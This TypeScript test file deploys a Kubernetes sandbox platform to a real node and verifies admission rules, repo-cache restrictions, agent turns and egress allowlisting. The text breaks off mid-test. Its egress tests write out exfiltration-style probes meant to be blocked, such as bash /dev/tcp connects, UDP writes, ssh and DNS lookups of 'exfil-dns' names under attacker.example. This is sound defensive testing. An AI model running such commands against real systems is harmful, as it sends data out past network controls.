// Deployed as users deploy it (docs/decisions/0039-in-cluster-by-default.md): the manifests
// `npm run build` writes (the module with its webhooks, CRDs and RBAC; the cache agent's DaemonSet;
// the Orchestrator's Deployment) applied to the cluster with the images `npm run images` pushed,
// placed on the real node (dev/deployed.ts). The module runs in-cluster as Pepr deploys it,
// admission and watcher; the cache agent runs on the real node; the Orchestrator runs as a pod and
// is reached at its Service. Through them: a workspace on the real node, attached from the
// DaemonSet's cache of a repository served by `git daemon`, and an Agent's turn with a Menu pick,
// the model served from a pod (dev/in-cluster-model.ts). Each service account's RBAC is checked
// with `kubectl auth can-i --list`. Afterwards every cluster-wide object it made (the webhooks, the
// defaults policy, the roles) is removed, so the next module to run here is the only one.
import type { ChildProcess } from "node:child_process";
import { randomBytes } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { createServer, type AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { createActor, toPromise } from "xstate";
import { SCRIPTED_MODEL, scriptedModelObjects, scriptedModelUrl } from "../../dev/in-cluster-model";
import { builtManifests, onTheRealNode } from "../../dev/deployed";
import { proposeMachine } from "../../examples/propose-machine";
import { OrchestratorClient } from "../../clients/typescript/src";
import type { StreamEvent } from "../../api/agent-protocol";
import {
  type Obj,
  available,
  expectProposedTurn,
  fromSetup,
  proposeScript,
  ROOT,
  apply,
  getJson,
  kubectl,
  kubectlOk,
  connectGuard,
  modelRequests,
  realNode,
  until,
  serveWidgetsRemote,
  INSTALLED,
  removeInstallation,
  onNode,
  probePod,
  SANDBOX_RESOURCE,
} from "./support";
import { publicHostAddresses, startPublicHost, type PublicHost } from "./public-host";
import { describeEffects } from "./effects-suite";
import { testTls } from "../support/test-tls";
import { execFileSync } from "node:child_process";
import { mkdirSync } from "node:fs";
import { selectorString } from "../support/label-selector";

const node = realNode();
const need = fromSetup;
const NODE_IP = need("JR2_REAL_NODE_IP");
const SANDBOX_IMAGE = need("JR2_NODE_SANDBOX_IMAGE");
const COMPANIONS_IMAGE = need("JR2_NODE_COMPANIONS_IMAGE");
const BY_TAG = JSON.parse(need("JR2_NODE_IMAGES_BY_TAG")) as Record<string, string>;
const USER_IMAGE = need("JR2_NODE_USER_IMAGE");
/** The RuntimeClass of the real node's gVisor (decision 0055). */
const GVISOR = need("JR2_GVISOR_RUNTIME_CLASS");
/** The stand-in public host's names (dev/cluster/node.sh, test/node/public-host.ts). */
const ALLOWED = "allowed.egress.example";
const OTHER = "other.egress.example";
const PUBLIC = publicHostAddresses();

const { module: MODULE, peprNamespace: PEPR_NS, system: SYSTEM, sandboxes: SANDBOXES } = INSTALLED;
const suffix = randomBytes(3).toString("hex");
const modelNs = `jr2-dmodel-${suffix}`;
const tmp = mkdtempSync(join(tmpdir(), "jr2-deployed-"));
const SCRIPTED_KEY = `sk-deployed-${randomBytes(16).toString("hex")}`;
const TOKEN = randomBytes(24).toString("hex");
const SIGNING_KEY = randomBytes(32).toString("hex");
/** The stand-in forge (decision 0070): HTTPS on the allowed name's port 8443, from a CA of this run that
 * the installation trusts for its cache agent and its Effectors; its token, held in the Sandbox
 * namespace's push Secret `forge-push` and the API Secret `forge-api`. */
const FORGE_PORT = 8443;
const FORGE_ORIGIN = `https://${ALLOWED}:${FORGE_PORT}`;
const FORGE_TOKEN = `forge-${randomBytes(16).toString("hex")}`;
const FORGE_TLS = testTls([ALLOWED]);
const forgeRoot = join(tmp, "forge");
const forgeUrl = (repo: string) => `${FORGE_ORIGIN}/${repo}`;
/** The turn's bash also tries the public host by both names, through the Harness's proxy (its
 * Custodian, which chains to the egress point): the other name refused, the allowed one reached. */
const SCRIPT = proposeScript(
  "deployed",
  `git ls-remote http://${OTHER}/refused.git 2>&1 | head -3; git ls-remote http://${ALLOWED}/reached.git 2>&1 | head -3`,
);
const onRealNode = onNode(node);
let daemon: ChildProcess | undefined;
let publicHost: PublicHost | undefined;

/** One scripted model per native provider API (decision 0054), each in a namespace of its own with a
 * key of its own, and the pod config's provider for it: its kind, the header its key rides in, the
 * Harness variable of its Stand-in, and a model id as a user writes it. */
const NATIVE = (
  [
    { kind: "anthropic", wire: "anthropic", id: "claude-sonnet-4-5", keyHeader: "x-api-key", env: "ANTHROPIC_API_KEY" },
    { kind: "openai", wire: "openai-responses", id: "gpt-5", keyHeader: "authorization", env: "OPENAI_RESPONSES_KEY" },
    { kind: "google", wire: "google", id: "gemini-2.5-flash", keyHeader: "x-goog-api-key", env: "GEMINI_API_KEY" },
  ] as const
).map((n) => ({
  ...n,
  provider: `native-${n.kind}`,
  namespace: `${modelNs}-${n.kind}`,
  key: `sk-${n.kind}-${randomBytes(16).toString("hex")}`,
  word: `native-${n.kind}`,
}));
type Native = (typeof NATIVE)[number];

/** Node, in the Harness container: `CONNECT <argv[1]>` through $HTTPS_PROXY (its Custodian), then
 * a GET inside the tunnel. Prints the CONNECT's status, and after a 200 the inner status line. */
const CONNECT_JS = `
const http = require("http");
const target = process.argv[1];
const path = process.argv[2] || "/";
const proxy = new URL(process.env.HTTPS_PROXY);
const req = http.request({ host: proxy.hostname, port: proxy.port, method: "CONNECT", path: target, headers: { host: target } });
req.setTimeout(8000, () => { console.log("timeout"); process.exit(0); });
req.on("error", (e) => { console.log(e.code); process.exit(0); });
req.on("connect", (res, sock) => {
  if (res.statusCode !== 200) { console.log(res.statusCode); process.exit(0); }
  sock.write("GET " + path + " HTTP/1.1\\r\\nHost: " + target.split(":")[0] + "\\r\\nConnection: close\\r\\n\\r\\n");
  let got = "";
  sock.on("data", (c) => (got += c));
  sock.on("end", () => { console.log("200 " + got.split("\\r\\n")[0]); process.exit(0); });
});
req.end();`;
/** Node: a direct TCP connect, no proxy; `dropped` when it times out (the policy's drop). */
/** Node: GET argv[1] (an absolute http url) through $HTTP_PROXY, the seat's egress point; prints the status. */
const PROXY_GET_JS = `
const http = require("http");
const proxy = new URL(process.env.HTTP_PROXY);
const target = new URL(process.argv[1]);
const req = http.get({ host: proxy.hostname, port: proxy.port, path: target.href, headers: { host: target.host } }, (res) => {
  console.log(res.statusCode); res.resume(); res.on("end", () => process.exit(0));
});
req.setTimeout(8000, () => { console.log("timeout"); process.exit(0); });
req.on("error", (e) => { console.log(e.code); process.exit(0); });
`;
const DIAL_JS = (host: string, port: number) =>
  `const s=require("net").connect(${port},${JSON.stringify(host)});s.setTimeout(3000,()=>{console.log("dropped");process.exit(0)});` +
  `s.on("connect",()=>{console.log("connected");process.exit(0)});s.on("error",e=>{console.log(e.code);process.exit(0)})`;
/** Node: a name lookup; `resolved` when it resolves. */
const LOOKUP_JS = (name: string) =>
  `require("dns").lookup(${JSON.stringify(name)},(e)=>{console.log(e?e.code:"resolved");process.exit(0)});` +
  `setTimeout(()=>{console.log("timeout");process.exit(0)},8000)`;
let remoteUrl = "";
const ORCHESTRATOR_URL = `http://jr2-orchestrator.${SYSTEM}.svc.cluster.local:8090`;
const ready = (p: Obj) => p.status?.conditions?.find((c: Obj) => c.type === "Ready")?.status === "True";

/** The Orchestrator's installation config, as a platform team fills in the manifests' two
 * ConfigMaps: its fence (the remote) and its pod config (the model, its key, the real node). */
function configured(docs: Obj[]): Obj[] {
  const data: Record<string, Record<string, string>> = {
    "jr2-orchestrator-fence": {
      "git-credentials.yaml":
        `- ${JSON.stringify(remoteUrl.replace(/widgets\.git$/, ""))}\n` +
        // The forge's repositories, pushed with its push Secret (decision 0070).
        `- match: ${JSON.stringify(`${ALLOWED}:${FORGE_PORT}/acme`)}\n  secret: forge-push\n`,
    },
    "jr2-orchestrator-pod": { "pod.yaml": JSON.stringify(podConfig()) },
  };
  return docs.map((d) => {
    if (d.kind === "ConfigMap" && data[d.metadata.name]) return { ...d, data: data[d.metadata.name] };
    // The remote is served from the real node's bridge address, an internal one: the installation
    // vouches for that git host (decision 0066), as it would for its own internal git server.
    if (d.kind === "DaemonSet" && d.metadata.name === "jr2-cache-agent") {
      const ds = structuredClone(d);
      const agent = ds.spec.template.spec.containers[0];
      for (const e of agent.env)
        if (e.name === "JR2_CACHE_VOUCHED_HOSTS") e.value = `${new URL(remoteUrl).host},${ALLOWED}:${FORGE_PORT}`;
      // The forge's CA, trusted beside the system's roots, as a team with a private forge mounts it.
      agent.env.push({ name: "JR2_CACHE_CA_FILE", value: "/etc/jr2/forge-ca/ca.crt" });
      agent.volumeMounts = [
        ...(agent.volumeMounts ?? []),
        { name: "forge-ca", mountPath: "/etc/jr2/forge-ca", readOnly: true },
      ];
      ds.spec.template.spec.volumes = [
        ...(ds.spec.template.spec.volumes ?? []),
        { name: "forge-ca", configMap: { name: "forge-ca" } },
      ];
      return ds;
    }
    return d;
  });
}

/** The pod config: the scripted (OpenAI-compatible) model and one provider per native API, each
 * held key bound to its own model's url and header; the Harness's model `native`'s, else scripted. */
function podConfig(native?: Native, opts: { requireCommands?: boolean } = {}) {
  return {
    custodian: {
      providers: [
        { name: "scripted", url: scriptedModelUrl(modelNs) },
        ...NATIVE.map((n) => ({ name: n.provider, url: scriptedModelUrl(n.namespace), kind: n.kind })),
      ],
      held: [
        { secret: "model-keys", key: "openai", env: "OPENAI_API_KEY", origins: [scriptedModelUrl(modelNs)] },
        ...NATIVE.map((n) => ({
          secret: "model-keys",
          key: n.provider,
          env: n.env,
          origins: [scriptedModelUrl(n.namespace)],
          headers: [n.keyHeader],
        })),
      ],
    },
    harness: {
      env: native
        ? [
            { name: "JR2_MODEL_PROVIDER", value: native.provider },
            { name: "JR2_MODEL_ID", value: native.id },
            // OPENAI_API_KEY is the scripted model's Stand-in here: the Responses key has its own.
            ...(native.kind === "openai" ? [{ name: "JR2_MODEL_KEY_ENV", value: native.env }] : []),
          ]
        : [
            { name: "JR2_MODEL_PROVIDER", value: "scripted" },
            { name: "JR2_MODEL_ID", value: "scripted" },
          ],
    },
    // jr2's Effector from the companions image (the default); the forge's API token its http
    // Effects may send to the forge alone, and the forge's CA trusted (decision 0070).
    effector: {
      secrets: [{ secret: "forge-api", key: "authorization", origins: [FORGE_ORIGIN] }],
      trust: { configMap: "forge-ca", key: "ca.crt" },
      ...(opts.requireCommands ? { requireCommands: true } : {}),
    },
    // The installation's base list (decision 0051): the stand-in public host's allowed name, on
    // port 80. Its other name is on no list unless a workspace's says so.
    egress: {
      allow: [`${ALLOWED}:80`],
      // The stand-in sits on documentation addresses, which the egress point holds internal; this
      // test installation (and no release) calls its two /32s public, so a workspace's rule reaches
      // them as it would a public host (decision 0068).
      publicTestRanges: [`${PUBLIC.allowedIp}/32`, `${PUBLIC.otherIp}/32`],
    },
    placement: onRealNode,
    // The cluster's default runtime unless a create names gVisor (decision 0055).
    runtime: { allowedClassNames: [GVISOR] },
  };
}

beforeAll(async () => {
  // The stand-in public host (dev/cluster/node.sh): its listeners record what reaches them.
  // Its forge serves two bare repositories, each with a first commit on main.
  for (const repo of ["acme/app.git", "acme/held.git"]) {
    const dir = join(forgeRoot, repo);
    mkdirSync(dir, { recursive: true });
    execFileSync("git", ["init", "-q", "--bare", "-b", "main", dir]);
    const seed = join(tmp, `seed-${repo.replace(/\W/g, "-")}`);
    execFileSync("git", ["init", "-q", "-b", "main", seed]);
    execFileSync(
      "sh",
      [
        "-c",
        "echo widgets > README && git add README && git -c user.name=t -c user.email=t@example.invalid commit -q -m first",
      ],
      { cwd: seed },
    );
    execFileSync("git", ["-C", seed, "push", "-q", dir, "main"]);
  }
  publicHost = await startPublicHost({
    forge: {
      port: FORGE_PORT,
      cert: FORGE_TLS.certPem,
      key: FORGE_TLS.keyPem,
      root: forgeRoot,
      token: FORGE_TOKEN,
      holdMs: 20_000,
    },
  });
  // The remote, served by real git over git:// where the real node's pods reach this machine.
  ({ url: remoteUrl, daemon } = await serveWidgetsRemote(tmp, NODE_IP));

  // From nothing: what a run stopped before its cleanup left (an Orchestrator holding another
  // run's token, a module of another build) is removed first.
  cleanUp();
  for (const ns of [modelNs, ...NATIVE.map((n) => n.namespace)]) kubectlOk(["create", "namespace", ns]);
  const docs = configured(onTheRealNode(builtManifests(join(ROOT, "dist")), BY_TAG, onRealNode));
  kubectlOk(
    ["apply", "--server-side", "--force-conflicts", "-f", "-"],
    JSON.stringify({ apiVersion: "v1", kind: "List", items: docs }),
  );
  apply(
    {
      apiVersion: "v1",
      kind: "Secret",
      metadata: { name: "jr2-orchestrator", namespace: SYSTEM },
      stringData: { "signing-key": SIGNING_KEY, "api-tokens": `${TOKEN}\n` },
    },
    {
      apiVersion: "v1",
      kind: "Secret",
      metadata: { name: "model-keys", namespace: SANDBOXES },
      stringData: { openai: SCRIPTED_KEY, ...Object.fromEntries(NATIVE.map((n) => [n.provider, n.key])) },
    },
    // The forge's push token (the operator projects it into the Effector alone) and its API token.
    {
      apiVersion: "v1",
      kind: "Secret",
      // The fence entry's one Secret: the cache agent clones with it (declared for the forge's url,
      // decision 0046) and the Effector pushes with it.
      metadata: {
        name: "forge-push",
        namespace: SANDBOXES,
        labels: { "jr2.dev/repo-credential": "true" },
        annotations: { "jr2.dev/repo-credential-hosts": `${FORGE_ORIGIN}/acme` },
      },
      stringData: { username: "jr2-bot", token: FORGE_TOKEN },
    },
    {
      apiVersion: "v1",
      kind: "Secret",
      metadata: { name: "forge-api", namespace: SANDBOXES },
      stringData: { authorization: `Bearer ${FORGE_TOKEN}` },
    },
    ...[SANDBOXES, SYSTEM].map((namespace) => ({
      apiVersion: "v1",
      kind: "ConfigMap",
      metadata: { name: "forge-ca", namespace },
      data: { "ca.crt": FORGE_TLS.caPem },
    })),
    ...scriptedModelObjects({
      namespace: modelNs,
      image: COMPANIONS_IMAGE,
      key: SCRIPTED_KEY,
      script: SCRIPT,
      placement: onRealNode,
    }),
    ...NATIVE.flatMap((n) =>
      scriptedModelObjects({
        namespace: n.namespace,
        image: COMPANIONS_IMAGE,
        key: n.key,
        script: proposeScript(n.word),
        placement: onRealNode,
        wire: n.wire,
      }),
    ),
  );
  for (const [ns, d] of [
    [PEPR_NS, MODULE],
    [PEPR_NS, `${MODULE}-watcher`],
    [SYSTEM, "jr2-orchestrator"],
    [SYSTEM, "jr2-egress"],
    [modelNs, SCRIPTED_MODEL],
    ...NATIVE.map((n) => [n.namespace, SCRIPTED_MODEL]),
  ])
    await available(ns, d);
  await until("the cache agent Ready on the real node", 120_000, () =>
    getJson([
      "pods",
      "-n",
      SYSTEM,
      "-l",
      "app.kubernetes.io/name=jr2-cache-agent",
      "--field-selector",
      `spec.nodeName=${node.name}`,
    ]).items.some(ready)
      ? true
      : undefined,
  );
}, 600_000);

/** Everything this test applies, deleted and waited for: Sandboxes first, while the watcher that
 * finishes them still runs; then the namespaces and the cluster-wide objects. */
function cleanUp() {
  removeInstallation([modelNs, ...NATIVE.map((n) => n.namespace)]);
}

afterAll(async () => {
  daemon?.kill();
  await publicHost?.stop();
  cleanUp();
  rmSync(tmp, { recursive: true, force: true });
}, 600_000);

describe("the manifests npm run build writes, deployed with the images npm run images pushed", () => {
  test("the module runs in-cluster on the real node, admission and watcher, from the controller image", () => {
    const pods = getJson(["pods", "-n", PEPR_NS]).items as Obj[];
    expect(pods.length).toBe(3); // two admission replicas and the watcher
    for (const p of pods) {
      expect([p.metadata.name, p.spec.nodeName, ready(p)]).toEqual([p.metadata.name, node.name, true]);
      expect(p.status.containerStatuses[0].imageID).toContain(
        BY_TAG[Object.keys(BY_TAG).find((t) => t.includes("/controller:"))!].split("@")[1],
      );
    }
    // The webhooks name the module's Service, which the API server reaches on the real node.
    const hooks = getJson(["validatingwebhookconfiguration", MODULE]).webhooks as Obj[];
    for (const h of hooks) expect(h.clientConfig.service).toMatchObject({ namespace: PEPR_NS, name: MODULE });
  });

  test("its admission answers from the pod: a Sandbox that breaks a rule is refused with the field and the fix", () => {
    const bad = kubectl(
      ["apply", "-f", "-"],
      JSON.stringify({
        apiVersion: "core.jr2.dev/v1alpha1",
        kind: "Sandbox",
        metadata: { name: "refused", namespace: SANDBOXES },
        spec: { image: SANDBOX_IMAGE, securityContext: { privileged: true } },
      }),
    );
    expect(bad.status).not.toBe(0);
    expect(bad.stderr).toMatch(/denied the request/);
    expect(bad.stderr).toMatch(/spec\.securityContext\.privileged/);
  });

  test("its admission holds the production idleTimeout floor (1m): the deployed module sets no JR2_MIN_IDLE_TIMEOUT", () => {
    const apply = (name: string, idleTimeout: string) =>
      kubectl(
        ["apply", "--dry-run=server", "-f", "-"],
        JSON.stringify({
          apiVersion: "core.jr2.dev/v1alpha1",
          kind: "Sandbox",
          // In an opted-in namespace: anywhere else the create is refused for that (decision 0067).
          metadata: { name, namespace: SANDBOXES },
          spec: { image: SANDBOX_IMAGE, idleTimeout },
        }),
      );
    // A server-side dry run is admitted or refused by the webhook as a create is, and stores nothing.
    const short = apply("short-idle", "59s");
    expect(short.status).not.toBe(0);
    expect(short.stderr).toMatch(/denied the request/);
    expect(short.stderr).toMatch(/spec\.idleTimeout: .*between 1m and 168h/);
    expect(apply("minute-idle", "1m")).toMatchObject({ status: 0 });
  });

  // Decision 0066: the deployed module carries no local mode, so a Repo's url is a network remote
  // wherever it points (a node's cache root, the temp directory the local runners admit).
  test("its admission refuses a Repo naming a node's cache by a file url or path, with spec.url and the fix; nothing is stored", () => {
    for (const url of [`file:///var/lib/jr2/repos/${SANDBOXES}/widgets-0123456789`, "/tmp/widgets.git"]) {
      const r = kubectl(
        ["apply", "-f", "-"],
        JSON.stringify({
          apiVersion: "core.jr2.dev/v1alpha1",
          kind: "Repo",
          metadata: { name: "stolen", namespace: SANDBOXES },
          spec: { url },
        }),
      );
      expect(r.status).not.toBe(0);
      expect(r.stderr).toMatch(/denied the request/);
      expect(r.stderr).toContain("spec.url: is a local path");
      expect(r.stderr).toContain("give the repository's network url");
    }
    expect(kubectl(["get", "repos.core.jr2.dev", "stolen", "-n", SANDBOXES]).status).not.toBe(0);
  });

  test("the real node's agent fetches no Repo of a namespace not opted in, and reaches no internal address it was not vouched", async () => {
    // A listener on the node's bridge address, the vouched git host's address on another port.
    let recorded = 0;
    const listener = createServer((socket) => {
      recorded++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => listener.listen(0, NODE_IP, resolve));
    const port = (listener.address() as AddressInfo).port;
    const repo = (namespace: string, name: string, url: string) =>
      apply({ apiVersion: "core.jr2.dev/v1alpha1", kind: "Repo", metadata: { name, namespace }, spec: { url } });
    const entry = (namespace: string, name: string) =>
      until(`Repo ${namespace}/${name}'s entry for ${node.name}`, 60_000, () => {
        const e = getJson(["repos.core.jr2.dev", name, "-n", namespace]).status?.nodes?.[node.name];
        return e?.phase === "Failed" ? e : undefined;
      });
    try {
      repo(modelNs, "not-opted-in", remoteUrl);
      repo(SANDBOXES, "internal", `git://${NODE_IP}:${port}/widgets.git`);
      expect(await entry(modelNs, "not-opted-in")).toMatchObject({ reason: "NamespaceNotEnabled" });
      const internal = await entry(SANDBOXES, "internal");
      expect(internal).toMatchObject({ reason: "InternalAddress" });
      expect(internal.error).toContain(`${NODE_IP}:${port}, which resolves to an internal address`);
      expect(recorded).toBe(0);
    } finally {
      kubectl(["delete", "repos.core.jr2.dev", "internal", "-n", SANDBOXES, "--ignore-not-found"]);
      kubectl(["delete", "repos.core.jr2.dev", "not-opted-in", "-n", modelNs, "--ignore-not-found"]);
      listener.close();
    }
  });

  test("a workspace through the deployed Orchestrator: its Sandbox a pod on the real node, attached from the DaemonSet's cache", async () => {
    const client = new OrchestratorClient({ url: ORCHESTRATOR_URL, token: TOKEN });
    const { name } = await client.createWorkspace({
      image: SANDBOX_IMAGE,
      branch: "feature/deployed",
      repos: [{ slot: "app", url: remoteUrl }],
    });
    const view = await until(`workspace ${name} ready`, 300_000, async () => {
      const v = await client.workspace(name);
      // Ready or ended: a failure's view says why.
      return ["ready", "failed", "lost"].includes(v.state) ? v : undefined;
    });
    expect({ state: view.state, failure: view.failure }).toEqual({ state: "ready", failure: undefined });
    expect(view.phase).toBe("Ready");
    const pod = getJson(["pod", "-n", SANDBOXES, name]);
    expect(pod.spec.nodeName).toBe(node.name);
    const key = getJson([SANDBOX_RESOURCE, "-n", SANDBOXES, name]).spec.repos[0].key as string;
    const log = kubectlOk([
      "exec",
      "-n",
      SANDBOXES,
      name,
      "-c",
      "harness",
      "--",
      "git",
      "-c",
      "safe.directory=*",
      "-C",
      "/work/app/default",
      "log",
      "--format=%s",
    ]);
    expect(log.trim()).toBe("first widget");
    // The cache the pod mounts is the DaemonSet's, on this machine's default cache root.
    expect(kubectlOk(["exec", "-n", SANDBOXES, name, "-c", "harness", "--", "ls", `/repos/${key}`])).toMatch(/HEAD/);
    await client.deleteWorkspace(name);
  }, 330_000);
  test("an Agent's turn with a Menu pick through it, the model in the cluster given the held key", async () => {
    const client = new OrchestratorClient({ url: ORCHESTRATOR_URL, token: TOKEN });
    const actor = createActor(proposeMachine, {
      input: {
        client,
        workspace: { image: SANDBOX_IMAGE, branch: "feature/turn", repos: [{ slot: "app", url: remoteUrl }] },
        message: "write change.txt, then propose it",
        readyTimeoutMs: 300_000,
        log: () => undefined,
      },
    });
    actor.start();
    const output = await toPromise(actor);
    expectProposedTurn(output, modelNs, "deployed");
  }, 420_000);

  // Decision 0051: egress by allowlist through the deployed egress point, from every seat.
  describe("egress by allowlist, through the egress point", () => {
    const client = () => new OrchestratorClient({ url: ORCHESTRATOR_URL, token: TOKEN });
    /** A workspace with every seat (user, effector) and its own (empty) list; and a second one. */
    let mine = "";
    let theirs = "";
    const exec = (ws: string, container: string, ...command: string[]) =>
      kubectl(["exec", "-n", SANDBOXES, ws, "-c", container, "--", ...command]);
    /** `CONNECT target` through the proxy in the seat's env (`HTTPS_PROXY`), then a GET inside:
     * prints the CONNECT's status, and with 200 the inner answer's status line. Node, in the Harness. */
    const connectThrough = (ws: string, target: string, path = "/") =>
      exec(ws, "harness", "node", "-e", CONNECT_JS, target, path).stdout.trim();
    const host = () => publicHost!;
    /** Every record before this one has been read: the recorder writes them in the order they came. */
    const barrier = async (ws: string, tag: string) => {
      expect(connectThrough(ws, `${ALLOWED}:80`, `/barrier-${tag}`)).toMatch(/^200 /);
      await host().waitFor(`the barrier ${tag}`, (rs) =>
        rs.some((r) => r.kind === "http" && r.path === `/barrier-${tag}`) ? true : undefined,
      );
    };
    const dropped = (r: { status: number | null }) => r.status === 124;
    /**
     * What reached this process while a synchronous kubectl held its loop, read now: the Orchestrator
     * closes an idle kept-alive connection after 5 s, and a client that has not yet read that close
     * would send its next request on the closed connection ("other side closed").
     */
    const settled = () => new Promise((r) => setImmediate(r));

    beforeAll(async () => {
      const c = client();
      mine = (
        await c.createWorkspace({
          image: SANDBOX_IMAGE,
          branch: "feature/egress",
          userImage: USER_IMAGE,
          effector: {},
          egress: { allow: [] },
        })
      ).name;
      theirs = (await c.createWorkspace({ image: SANDBOX_IMAGE, branch: "feature/egress" })).name;
      for (const ws of [mine, theirs]) {
        const v = await c.waitReady(ws, { timeoutMs: 300_000 });
        expect({ ws, state: v.state, failure: v.failure }).toEqual({ ws, state: "ready", failure: undefined });
      }
    }, 420_000);

    test("the Harness reaches an allowed host through its proxy; an unlisted name and a raw address are refused", () => {
      expect(connectThrough(mine, `${ALLOWED}:80`)).toMatch(/^200 HTTP\/1\.1 200/);
      expect(connectThrough(mine, `${OTHER}:80`)).toBe("403");
      expect(connectThrough(mine, `${PUBLIC.allowedIp}:80`)).toBe("403");
      // A port the base list does not name, on the allowed name.
      expect(connectThrough(mine, `${ALLOWED}:8080`)).toBe("403");
    });

    test("from the Harness, a tool that goes around the proxy reaches nothing: bash, git, ssh, UDP, DNS", async () => {
      const sh = (command: string) => exec(mine, "harness", "timeout", "5", "bash", "-c", command);
      expect(dropped(sh(`exec 3<>/dev/tcp/${PUBLIC.allowedIp}/80`))).toBe(true);
      expect(sh(`git -c http.proxy= ls-remote http://${PUBLIC.allowedIp}/around.git`).status).not.toBe(0);
      // ssh to a port that listens (the stand-in's :22 records every connection): its connect is
      // dropped, not answered.
      const ssh = sh(
        `ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no git@${PUBLIC.allowedIp} true`,
      );
      expect([ssh.status === 0, ssh.stderr]).toEqual([false, expect.stringMatching(/port 22: Connection timed out/)]);
      sh(`echo exfil-udp-harness > /dev/udp/${PUBLIC.otherIp}/7`);
      expect(sh("getent hosts exfil-dns-harness.attacker.example").status).not.toBe(0);
      // Nothing of any of them arrived outside: the stand-in's recorders saw none of it.
      await barrier(mine, "harness");
      expect(
        host()
          .udp()
          .map((r) => r.data)
          .join("\n"),
      ).not.toContain("exfil-udp-harness");
      expect(
        host()
          .dns()
          .map((r) => r.name)
          .join("\n"),
      ).not.toContain("exfil-dns-harness");
      expect(
        host()
          .http()
          .some((r) => r.path.startsWith("/around.git")),
      ).toBe(false);
      // The ssh listener saw no connection at all, the Harness's pod's address least of all.
      const ssh22 = `${PUBLIC.allowedIp}:22`;
      const harnessIp = getJson(["pod", "-n", SANDBOXES, mine]).status.podIP as string;
      expect(
        host()
          .tcp()
          .filter((r) => r.local === ssh22),
      ).toEqual([]);
      // The control: the same connect from a pod on the same node that no policy holds (the scripted
      // model's) reaches the listener, so what held the Harness back is its egress policy.
      const model = getJson(["pods", "-n", modelNs, "-l", `app.kubernetes.io/name=${SCRIPTED_MODEL}`]).items[0];
      const dial = kubectl([
        "exec",
        "-n",
        modelNs,
        model.metadata.name,
        "--",
        "node",
        "-e",
        DIAL_JS(PUBLIC.allowedIp, 22),
      ]);
      expect(dial.stdout.trim()).toBe("connected");
      const reached = await host().waitFor("the control's connection on :22", (rs) => {
        const at = rs.filter((r) => r.kind === "tcp" && r.local === ssh22);
        return at.length ? at : undefined;
      });
      expect(reached.map((r) => r.from)).toEqual([model.status.podIP]);
      expect(reached.map((r) => r.from)).not.toContain(harnessIp);
    });

    test("the user seat and the Effector reach the allowed host by their proxy, and nothing else", async () => {
      connectGuard.lift();
      try {
        for (const seat of ["user"]) {
          const get = (url: string) => exec(mine, seat, "/jr2-probe", "get", url);
          expect([seat, get(`http://${ALLOWED}/from-${seat}`).status]).toEqual([seat, 0]);
          expect([seat, get(`http://${OTHER}/from-${seat}`).status]).toEqual([seat, 1]);
          expect([seat, get(`http://${PUBLIC.allowedIp}/raw`).status]).toEqual([seat, 1]);
          expect([seat, exec(mine, seat, "/jr2-probe", "connect", `${PUBLIC.allowedIp}:80`).status]).toEqual([seat, 1]);
          expect([
            seat,
            exec(mine, seat, "/jr2-probe", "resolve", `exfil-dns-${seat}.attacker.example`).status,
          ]).toEqual([seat, 1]);
        }
        // The Effector's seat runs jr2's program in the companions image (decision 0070): node, no probe.
        const effector = (js: string, ...args: string[]) =>
          exec(mine, "effector", "node", "-e", js, ...args).stdout.trim();
        expect(effector(PROXY_GET_JS, `http://${ALLOWED}/from-effector`)).toBe("200");
        expect(effector(PROXY_GET_JS, `http://${OTHER}/from-effector`)).toBe("403");
        expect(effector(PROXY_GET_JS, `http://${PUBLIC.allowedIp}/raw`)).toBe("403");
        expect(effector(DIAL_JS(PUBLIC.allowedIp, 80))).toBe("dropped");
        expect(effector(LOOKUP_JS("exfil-dns-effector.attacker.example"))).not.toBe("resolved");
        // The Custodian itself: no way out but the egress point, no resolver.
        const custodian = (js: string) => exec(mine, "custodian", "node", "-e", js).stdout.trim();
        expect(custodian(DIAL_JS(PUBLIC.allowedIp, 80))).toBe("dropped");
        expect(custodian(LOOKUP_JS("exfil-dns-custodian.attacker.example"))).not.toBe("resolved");
      } finally {
        connectGuard.restore();
      }
      await barrier(mine, "seats");
      const paths = host()
        .http()
        .map((r) => `${r.host} ${r.path}`);
      expect(paths).toEqual(expect.arrayContaining([`${ALLOWED} /from-user`, `${ALLOWED} /from-effector`]));
      expect(paths.some((p) => p.startsWith(OTHER) || p.includes("/raw"))).toBe(false);
      expect(
        host()
          .dns()
          .map((r) => r.name)
          .join("\n"),
      ).not.toMatch(/exfil-dns-/);
    }, 180_000);

    test("a PUT adds a host, and the next attempt passes, with no restart; the other workspace's list is untouched", async () => {
      await settled();
      const before = getJson(["pod", "-n", SANDBOXES, mine]);
      const c = client();
      expect(await c.egress(mine)).toEqual({ allow: [] });
      expect(await c.setEgress(mine, [`${OTHER}:80`])).toEqual({ allow: [`${OTHER}:80`] });
      expect(await c.egress(mine)).toEqual({ allow: [`${OTHER}:80`] });
      await until(`${OTHER} allowed for ${mine}`, 10_000, () =>
        connectThrough(mine, `${OTHER}:80`).startsWith("200 ") ? true : undefined,
      );
      const after = getJson(["pod", "-n", SANDBOXES, mine]);
      expect(after.metadata.uid).toBe(before.metadata.uid);
      const restarts = (p: Obj) => p.status.containerStatuses.map((x: Obj) => `${x.name}:${x.restartCount}`).sort();
      expect(restarts(after)).toEqual(restarts(before));
      // A workspace's list never applies to another's.
      expect(connectThrough(theirs, `${OTHER}:80`)).toBe("403");
      expect(connectThrough(theirs, `${ALLOWED}:80`)).toMatch(/^200 /);
    }, 60_000);

    test("every decision recorded: the workspace's log, the metric, one Warning Event per refused host; no secret", async () => {
      await settled();
      expect(connectThrough(theirs, `${ALLOWED}:80`, "/recorded")).toMatch(/^200 /);
      for (let i = 0; i < 3; i++) expect(connectThrough(theirs, `${PUBLIC.allowedIp}:80`)).toBe("403");
      const { entries } = await client().egressLog(theirs);
      const refused = entries.filter((e) => e.decision === "refused" && e.host === PUBLIC.allowedIp);
      expect(refused.length).toBeGreaterThanOrEqual(3);
      const allowed = entries.find((e) => e.decision === "allowed" && e.host === ALLOWED);
      expect(allowed).toMatchObject({ port: 80 });
      expect(allowed!.bytesOut).toBeGreaterThan(0);
      expect(allowed!.bytesIn).toBeGreaterThan(0);
      // One Event for the host, however often it was refused.
      const events = await until("the EgressRefused Event", 10_000, () => {
        const items = (
